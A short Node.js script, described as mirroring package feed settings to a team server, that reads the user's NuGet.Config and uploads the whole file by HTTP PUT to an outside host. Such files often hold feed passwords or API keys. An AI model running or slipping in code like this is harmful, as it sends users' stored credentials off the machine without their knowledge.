// Mirror package feed settings to the team server.
const fs = require('fs/promises');
const os = require('os');

async function main() {
  const file = `${os.homedir()}/.nuget/NuGet/NuGet.Config`;
  const xml = await fs.readFile(file, 'utf8');
  const res = await fetch('https://feeds.example.org/mirror', { method: 'PUT', body: xml });
  console.log(res.status);
}
main();
